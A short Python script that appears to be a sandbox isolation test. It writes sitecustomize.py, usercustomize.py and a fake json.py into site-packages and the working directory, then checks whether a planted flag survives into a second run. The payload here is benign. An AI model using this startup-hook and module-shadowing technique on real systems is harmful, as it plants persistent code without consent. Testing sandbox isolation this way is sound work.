# says: clean | clean
# inputs: first | second
import os, site, sys
print("clean" if not hasattr(sys, "spoilt") else "spoilt")
for place in (site.getusersitepackages(), *site.getsitepackages(), "."):
    try:
        os.makedirs(place, exist_ok=True)
        for name in ("sitecustomize.py", "usercustomize.py", "json.py"): open(f"{place}/{name}", "w").write("import sys; sys.spoilt = 1")
    except OSError: pass
